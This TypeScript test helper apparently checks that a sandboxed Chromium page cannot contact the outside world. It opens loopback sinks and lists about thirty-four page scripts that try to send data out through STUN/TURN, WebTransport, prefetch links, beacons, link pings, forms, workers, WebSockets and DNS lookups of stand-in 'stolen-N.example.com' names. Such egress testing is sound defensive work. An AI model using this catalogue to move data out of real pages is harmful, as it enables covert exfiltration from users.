/** Everything by which a page can reach somebody, and programs on loopback that note who has reached them. */
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:net';
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname } from 'node:path';

/** Where something can arrive. `dns` is asked for names that the test alone uses. */
export type Sink = 'udp' | 'tcp' | 'dns';

export interface Sinks {
  readonly ports: Readonly<Record<Sink, number>>;
  /** What has arrived so far: a line for each connection and each datagram. */
  readonly received: readonly Sink[];
  forget(): void;
  close(): Promise<void>;
}

/** Opens one sink of each kind on 127.0.0.1. */
export async function openSinks(): Promise<Sinks> {
  const received: Sink[] = [];
  const udp = createSocket('udp4', () => received.push('udp'));
  const listen = (sink: Sink) =>
    createServer((socket) => {
      received.push(sink);
      // One that stays open would be used for the next attempt, too.
      socket.on('error', () => undefined).destroy();
    });
  const [tcp, dns] = [listen('tcp'), listen('dns')];
  udp.bind(0, '127.0.0.1');
  tcp.listen(0, '127.0.0.1');
  dns.listen(0, '127.0.0.1');
  await Promise.all([udp, tcp, dns].map((each) => once(each, 'listening')));
  const portOf = (server: typeof tcp): number => (server.address() as { port: number }).port;
  return {
    ports: { udp: udp.address().port, tcp: portOf(tcp), dns: portOf(dns) },
    received,
    forget: () => void (received.length = 0),
    async close() {
      udp.close();
      await Promise.all([tcp, dns].map((server) => new Promise((done) => server.close(done))));
    },
  };
}

/**
 * Has a Chromium that is not running yet ask the sink for names, over TLS: the system's own resolver cannot be sent
 * elsewhere for one program.
 *
 * @param localState the file of that name in its profile
 */
export function askSinkForNames(localState: string, { ports }: Sinks): void {
  mkdirSync(dirname(localState), { recursive: true, mode: 0o700 });
  const templates = `https://127.0.0.1:${ports.dns}/dns-query`;
  writeFileSync(localState, JSON.stringify({ dns_over_https: { mode: 'secure', templates } }));
}

export interface Way {
  readonly name: string;
  /** Where it arrives when nothing stops it. */
  readonly sink: Sink;
  /** An expression for the page: a promise that ends when the attempt has. */
  readonly script: string;
}

const event = (target: string, ends: readonly string[], start: string): string =>
  `new Promise((end) => {
    const target = ${target};
    for (const name of ${JSON.stringify(ends)}) target.addEventListener(name, end);
    ${start};
  })`;

const element = (html: string): string =>
  `new Promise((end) => {
    document.body.insertAdjacentHTML('beforeend', ${JSON.stringify(html)});
    setTimeout(end, 200);
  })`;

const inHead = (html: string): string =>
  `new Promise((end) => {
    document.head.insertAdjacentHTML('beforeend', ${JSON.stringify(html)});
    setTimeout(end, 200);
  })`;

/** Closes what it has opened, which would go on sending. @param server of `RTCPeerConnection` */
const webRtc = (server: object): string =>
  `new Promise((end) => {
    const peer = new RTCPeerConnection({ iceServers: [${JSON.stringify(server)}] });
    const close = () => (peer.close(), end());
    peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && close();
    setTimeout(close, 500);
    peer.createDataChannel('x');
    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  })`;

const turn = (urls: string): string => webRtc({ urls, username: 'stolen', credential: 'x' });

const worker = (code: string): string =>
  event(
    `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`,
    ['message', 'error'],
    '',
  );

/** All the ways. Names of hosts end in a word of their own, so that no answer is at hand. */
export function waysOut({ ports }: Sinks): Way[] {
  const udp = `127.0.0.1:${ports.udp}`;
  const tcp = `127.0.0.1:${ports.tcp}`;
  const [http, ws] = [`http://${tcp}`, `ws://${tcp}`];
  let names = 0;
  const named = (): string => `stolen-${(names += 1)}.example.com`;
  const way = (name: string, sink: Sink, script: string): Way => ({ name, sink, script });
  return [
    way('STUN', 'udp', webRtc({ urls: `stun:${udp}` })),
    way('TURN', 'udp', turn(`turn:${udp}`)),
    way('TURN over TCP', 'tcp', turn(`turn:${tcp}?transport=tcp`)),
    way('TURN over TLS', 'tcp', turn(`turns:${tcp}?transport=tcp`)),
    way('a name in STUN', 'dns', webRtc({ urls: `stun:${named()}:3478` })),
    way('a name in TURN', 'dns', turn(`turn:${named()}:3478`)),
    way('WebTransport', 'udp', `new WebTransport('https://${udp}/x').ready.then(() => 0, () => 0)`),
    way('dns-prefetch', 'dns', inHead(`<link rel="dns-prefetch" href="//${named()}">`)),
    way('a preconnect by name', 'dns', inHead(`<link rel="preconnect" href="https://${named()}">`)),
    way('preconnect', 'tcp', inHead(`<link rel="preconnect" href="${http}">`)),
    way('prefetch', 'tcp', inHead(`<link rel="prefetch" href="${http}/prefetch">`)),
    way('preload', 'tcp', inHead(`<link rel="preload" as="image" href="${http}/preload">`)),
    way('modulepreload', 'tcp', inHead(`<link rel="modulepreload" href="${http}/module.js">`)),
    way('a style sheet', 'tcp', inHead(`<link rel="stylesheet" href="${http}/sheet.css">`)),
    way('an icon', 'tcp', inHead(`<link rel="icon" href="${http}/icon.png">`)),
    way('fetch', 'tcp', `fetch('${http}/fetch', { mode: 'no-cors' }).then(() => 0, () => 0)`),
    way('fetch of a name', 'dns', `fetch('https://${named()}/').then(() => 0, () => 0)`),
    way(
      'fetch that outlives the page',
      'tcp',
      `fetch('${http}/kept', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }).then(() => 0, () => 0)`,
    ),
    way(
      'XMLHttpRequest',
      'tcp',
      event(
        'new XMLHttpRequest()',
        ['loadend'],
        `target.open('GET', '${http}/xhr'); target.send()`,
      ),
    ),
    way('an image', 'tcp', event('new Image()', ['load', 'error'], `target.src = '${http}/image'`)),
    way(
      'a font',
      'tcp',
      `new FontFace('stolen', 'url(${http}/font)').load().then(() => 0, () => 0)`,
    ),
    way('a script', 'tcp', `import('${http}/script.js').then(() => 0, () => 0)`),
    way('a frame', 'tcp', element(`<iframe src="${http}/frame"></iframe>`)),
    way('an object', 'tcp', element(`<object data="${http}/object"></object>`)),
    way('a video', 'tcp', element(`<video src="${http}/video" preload="auto"></video>`)),
    way(
      'a form',
      'tcp',
      `new Promise((end) => {
        document.body.insertAdjacentHTML('beforeend',
          '<iframe name="into"></iframe><form target="into" action="${http}/form"></form>');
        document.forms[document.forms.length - 1].submit();
        setTimeout(end, 200);
      })`,
    ),
    way(
      'the ping of a link',
      'tcp',
      `new Promise((end) => {
        document.body.insertAdjacentHTML('beforeend', '<a href="#x" ping="${http}/ping">x</a>');
        document.body.lastElementChild.click();
        setTimeout(end, 200);
      })`,
    ),
    way(
      'a beacon',
      'tcp',
      `new Promise((end) => (navigator.sendBeacon('${http}/beacon', 'x'), setTimeout(end, 200)))`,
    ),
    way('an EventSource', 'tcp', event(`new EventSource('${http}/events')`, ['error'], '')),
    way('a WebSocket', 'tcp', event(`new WebSocket('${ws}/socket')`, ['error', 'close'], '')),
    way(
      'a worker',
      'tcp',
      worker(
        `fetch('${http}/worker', { mode: 'no-cors' }).then(() => postMessage(0), () => postMessage(0))`,
      ),
    ),
    way(
      'a socket of a worker',
      'tcp',
      worker(`new WebSocket('${ws}/worker').onclose = () => postMessage(0)`),
    ),
    way(
      'WebTransport of a worker',
      'udp',
      worker(
        `new WebTransport('https://${udp}/w').ready.then(() => postMessage(0), () => postMessage(0))`,
      ),
    ),
    way(
      'a shared worker',
      'tcp',
      `new Promise((end) => {
        const code = "onconnect = () => fetch('${http}/shared', { mode: 'no-cors' })";
        new SharedWorker(URL.createObjectURL(new Blob([code]))).onerror = end;
        setTimeout(end, 200);
      })`,
    ),
  ];
}

/** Longer than any of them needs until something is under way. */
const PATIENCE_MS = 600;

/** An expression for the page that tries a way, and goes on where the page is not even let try. */
export const attempt = ({ script }: Way): string =>
  `(async () => {
    const enough = new Promise((end) => setTimeout(end, ${PATIENCE_MS}));
    try { await Promise.race([${script}, enough]); } catch {}
    return 1;
  })()`;
